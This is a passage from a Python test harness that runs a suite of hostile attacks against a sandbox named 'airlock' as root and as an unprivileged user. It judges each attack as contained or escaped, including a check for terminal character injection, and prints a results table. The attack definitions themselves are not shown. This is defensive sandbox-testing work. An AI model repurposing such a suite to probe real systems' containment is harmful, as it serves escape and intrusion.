            os.close(slave)
            os.close(master)
        rep = None
        try:
            with open(report) as f:
                rep = json.load(f)
        except (OSError, ValueError):
            pass
        res = Result(rc, out, err, rep, time.monotonic() - t)
        res.injected = injected
        return res

    def run_attack(self, user, name, fn):
        ctx = Ctx(self, user, name)
        try:
            spec = fn(ctx)
            for opts, argv in getattr(ctx, "pre", []):
                self.run_one(ctx, spec, opts, argv)
            res = self.run_one(ctx, spec)
            if res.report is None:
                return judged("UNJUDGED", "the sandbox did not run (exit %d): %s" % (res.rc, res.err.strip()[-300:]))
            if spec.get("tty"):
                if res.injected and b"HOSTILE-INJECTED" in res.injected:
                    return judged("ESCAPED", "characters were injected into the terminal")
                v = program(res, "TIOCSTI" if spec["argv"][-1] == "sti" else None)
                return v if v[0] != "blocked" else judged("blocked", v[1] + "; nothing injected")
            return spec["judge"](res)
        except Exception as e:  # noqa: BLE001 - every failure must be visible
            return judged("UNJUDGED", "judge failed: %r" % e)
        finally:
            for c in ctx.cleanups:
                try:
                    c()
                except Exception:  # noqa: BLE001
                    pass

    def cleanup(self):
        # Staging and workspaces may contain read-only dirs the sandbox made.
        for d, dirs, _ in os.walk(self.fix):
            for x in dirs:
                try:
                    os.chmod(os.path.join(d, x), 0o700)
                except OSError:
                    pass
        shutil.rmtree(self.fix, ignore_errors=True)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--airlock", required=True)
    ap.add_argument("--src", required=True)
    a = ap.parse_args()
    only = [x for x in os.environ.get("HOSTILE_ONLY", "").split(",") if x]
    users = [x for x in os.environ.get("HOSTILE_USERS", "root,nobody").split(",") if x]
    is_root = os.geteuid() == 0
    if not is_root:
        me = pwd.getpwuid(os.geteuid()).pw_name
        print("hostile: not root: running as %s only; the root column is skipped" % me)
        users = ["nobody"]  # column name for the unprivileged run

    suite = Suite(a.airlock, a.src)
    rows = []
    failed = 0
    started = time.monotonic()
    try:
        for u in users:
            if is_root or u == "nobody":
                suite.setup_user(u)
        for name, desc, fn in ATTACKS:
            if only and name not in only:
                continue
            cells = {}
            for u in ("root", "nobody"):
                if u not in users:
                    cells[u] = ("skipped", "not requested" if is_root else "not root")
                    continue
                cells[u] = suite.run_attack(u, name, fn)
            verdicts = [c[0] for c in cells.values() if c[0] != "skipped"]
            if "ESCAPED" in verdicts:
                verdict = "ESCAPED"
            elif "UNJUDGED" in verdicts or not verdicts:
                verdict = "UNJUDGED"
            else:
                verdict = "contained"
            if verdict != "contained":
                failed += 1
            rows.append((name, desc, cells, verdict))
            sys.stdout.flush()
    finally:
        suite.cleanup()

    w = max(len(r[0]) for r in rows) if rows else 10
    print("%-*s | %-8s | %-8s | %s" % (w, "attack", "root", "nobody", "verdict"))
    print("%s-+-%s-+-%s-+-%s" % ("-" * w, "-" * 8, "-" * 8, "-" * 9))
    for name, desc, cells, verdict in rows:
        print("%-*s | %-8s | %-8s | %s" % (w, name, cells["root"][0], cells["nobody"][0], verdict))
    print()
    for name, desc, cells, verdict in rows:
        for u in ("root", "nobody"):
            v, note = cells[u]
            if v != "skipped" and (verdict != "contained" or os.environ.get("HOSTILE_VERBOSE")):
                print("%s [%s] %s: %s" % (name, u, v, note))
    print("%d attacks, %d contained, %d not contained, in %.1f s"
          % (len(rows), len(rows) - failed, failed, time.monotonic() - started))
    print("%d passed, %d failed" % (len(rows) - failed, failed))
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
